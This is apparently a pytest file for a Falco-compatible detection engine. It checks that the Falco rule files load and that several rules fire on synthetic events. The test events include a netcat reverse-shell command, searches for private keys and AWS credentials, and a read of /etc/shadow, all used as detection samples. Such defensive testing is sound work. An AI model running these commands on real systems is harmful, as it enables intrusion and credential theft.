"""The stock falcosecurity/rules files load unchanged (falco.md §4.1, §7).

Falco's rule files are never committed here: this test reads them from the directory named by
TRACEHOUND_FALCO_RULES_DIR (default /var/cache/tracehound-falco-rules) and skips when absent.
"""

from __future__ import annotations

import os
import re
from pathlib import Path

import pytest
from rules_helpers import connect_event, event

from tracehound.events import Fd, Process
from tracehound.rules import load_result

DIR = Path(os.environ.get("TRACEHOUND_FALCO_RULES_DIR", "/var/cache/tracehound-falco-rules"))
STABLE = DIR / "falco_rules.yaml"
INCUBATING = DIR / "falco-incubating_rules.yaml"
SANDBOX = DIR / "falco-sandbox_rules.yaml"

needs_stable = pytest.mark.skipif(not STABLE.is_file(), reason=f"Falco's falco_rules.yaml not found in {DIR} "
                                  "(set TRACEHOUND_FALCO_RULES_DIR to a checkout of falcosecurity/rules/rules)")
needs_all = pytest.mark.skipif(not (STABLE.is_file() and INCUBATING.is_file() and SANDBOX.is_file()),
                               reason=f"falco_rules.yaml, falco-incubating_rules.yaml and falco-sandbox_rules.yaml "
                                      f"not all found in {DIR} (set TRACEHOUND_FALCO_RULES_DIR)")

# falco.md §4.1: the evt.type set of each stable rule
STABLE_TABLE = {
    "Directory traversal monitored file read": "open,openat,openat2",
    "Read sensitive file trusted after startup": "open,openat,openat2",
    "Read sensitive file untrusted": "open,openat,openat2",
    "Run shell untrusted": "execve,execveat",
    "System user interactive": "execve,execveat",
    "Terminal shell in container": "execve,execveat",
    "Contact K8S API Server From Container": "connect",
    "Netcat Remote Code Execution in Container": "execve,execveat",
    "Search Private Keys or Passwords": "execve,execveat",
    "Clear Log Activities": "open,openat,openat2",
    "Remove Bulk Data from Disk": "execve,execveat",
    "Create Symlink Over Sensitive Files": "symlink,symlinkat",
    "Create Hardlink Over Sensitive Files": "link,linkat",
    "Packet socket created in container": "socket",
    "Redirect STDOUT/STDIN to Network Connection in Container": "dup,dup2,dup3",
    "Linux Kernel Module Injection Detected": "finit_module,init_module",
    "Debugfs Launched in Privileged Container": "execve,execveat",
    "Detect release_agent File Container Escapes": "open,openat,openat2",
    "PTRACE attached to process": "ptrace",
    "PTRACE anti-debug attempt": "ptrace",
    "Find AWS Credentials": "execve,execveat",
    "Execution from /dev/shm": "execve,execveat",
    "Drop and execute new binary in container": "execve,execveat",
    "Disallowed SSH Connection Non Standard Port": "connect,sendmsg,sendto",
    "Fileless execution via memfd_create": "execve,execveat",
}
STABLE_UNION = ["connect", "dup", "dup2", "dup3", "execve", "execveat", "finit_module", "init_module", "link", "linkat", "open", "openat", "openat2", "ptrace", "sendmsg", "sendto", "socket", "symlink", "symlinkat"]
# falco.md §4.1: what incubating + sandbox add (rules 5.1.0)
REFERENCE_EXTRA = ["accept", "accept4", "bpf", "chmod", "creat", "fchmod", "fchmodat", "listen", "mkdir", "mkdirat", "recvfrom", "recvmsg", "rename", "renameat", "renameat2", "rmdir", "setns", "setuid", "unlink", "unlinkat", "unshare", "userfaultfd"]


def rule_names(path: Path) -> list[str]:
    """Names of the full rule definitions in a rules file, read without our loader."""
    import yaml

    out = []
    for item in yaml.safe_load(path.read_text()) or []:
        if isinstance(item, dict) and "rule" in item and "condition" in item and "output" in item:
            out.append(item["rule"])
    return out


def is_reference_version() -> bool:
    return "required_engine_version: 0.57.0" in STABLE.read_text()


@needs_stable
def test_stable_alone():
    res = load_result([STABLE])
    assert res.errors == [], [str(m) for m in res.errors]
    rs = res.ruleset
    names = rule_names(STABLE)
    assert len(rs.rules) == len(names) == 25
    assert {r.name for r in rs.rules} == set(names)
    assert rs.evttypes() == sorted(STABLE_UNION)
    assert {r.name: ",".join(sorted(r.evttypes)) for r in rs.rules} == STABLE_TABLE
    assert all(r.fn is not None for r in rs.rules)


@needs_all
def test_stable_incubating_sandbox_together():
    res = load_result([STABLE, INCUBATING, SANDBOX])
    assert res.errors == [], [str(m) for m in res.errors]
    rs = res.ruleset
    expected = list(dict.fromkeys(rule_names(STABLE) + rule_names(INCUBATING) + rule_names(SANDBOX)))
    assert [r.name for r in rs.rules] == expected  # every rule compiled, in definition order
    union: set[str] = set()
    for r in rs.rules:
        union |= r.evttypes
    assert set(STABLE_UNION) <= union
    if is_reference_version():
        assert len(rs.rules) == 93
        assert union == set(STABLE_UNION) | set(REFERENCE_EXTRA) and len(union) == 41


@needs_all
@pytest.mark.parametrize("path", [INCUBATING, SANDBOX], ids=["incubating", "sandbox"])
def test_each_file_alone(path):
    res = load_result([path])
    assert res.errors == [], [str(m) for m in res.errors]
    assert len(res.ruleset.rules) == len(rule_names(path))


@needs_stable
def test_reference_counts_if_reference_version():
    if not is_reference_version():
        pytest.skip("the cached falco_rules.yaml is not the rules-5.1.0 line the reference counted "
                    "(its macros/lists counts differ)")
    res = load_result([STABLE])
    assert (len(res.ruleset.macros), len(res.ruleset.lists)) == (87, 49)


# -- a few stable rules firing on hand-built events -------------------------------------------------------
@pytest.fixture(scope="module")
def stable():
    if not STABLE.is_file():
        pytest.skip(f"Falco's falco_rules.yaml not found in {DIR}")
    return load_result([STABLE], hostname="h").ruleset


def fired(rs, e) -> list[str]:
    return [a.rule for a in rs.match(e)]


def test_read_sensitive_file_untrusted(stable):
    p = Process(pid=9, comm="node", parent=Process(pid=8, comm="npm"))
    e = event("openat", proc=p, fd=Fd(3, "file", "/etc/shadow"))
    assert fired(stable, e) == ["Read sensitive file untrusted"]
    # a trusted reader is excepted
    e.proc = Process(pid=9, comm="sshd", parent=Process(pid=8, comm="systemd"))
    assert fired(stable, e) == []


def test_search_private_keys(stable):
    p = Process(pid=9, comm="grep", args=["-r", "BEGIN RSA PRIVATE", "/"], parent=Process(pid=8, comm="sh"))
    assert fired(stable, event("execve", proc=p, res=0)) == ["Search Private Keys or Passwords"]


def test_netcat_in_container(stable):
    p = Process(pid=9, comm="nc", args=["-e", "/bin/sh", "example.com", "22"], parent=Process(pid=8, comm="sh"))
    e = event("execve", proc=p, res=0, container_id="3f2a1b")
    assert "Netcat Remote Code Execution in Container" in fired(stable, e)
    e.container_id = None  # on the host the rule does not apply
    assert "Netcat Remote Code Execution in Container" not in fired(stable, e)


def test_symlink_over_sensitive_file(stable):
    e = event("symlinkat", res=0, args={"target": "/etc/shadow", "linkdirfd": -100, "linkpath": "/tmp/s"})
    assert fired(stable, e) == ["Create Symlink Over Sensitive Files"]


def test_disallowed_ssh_non_standard_port(stable):
    p = Process(pid=9, comm="ssh", exe="/usr/bin/ssh", args=["user@example.com", "-p", "443"])
    assert fired(stable, connect_event(proc=p)) == ["Disallowed SSH Connection Non Standard Port"]
    # port 22 is standard; a private destination is not outbound
    assert fired(stable, connect_event(proc=p, sport=22)) == []
    assert fired(stable, connect_event(proc=p, sip="192.168.1.10")) == []


def test_stable_output_renders(stable):
    p = Process(pid=9, comm="find", args=["/", "-name", ".aws/credentials"], parent=Process(pid=8, comm="bash"))
    [alert] = stable.match(event("execve", proc=p, res=0))
    assert alert.rule == "Find AWS Credentials"
    assert re.search(r"^16:17:57\.881781397: Warning Detected AWS credentials search activity \(proc_pcmdline=bash "
                     r"proc_cwd=<NA> .* command=find / -name \.aws/credentials terminal=<NA> exe_flags=<NA> \) "
                     r"container_id=host container_name=host", alert.output)
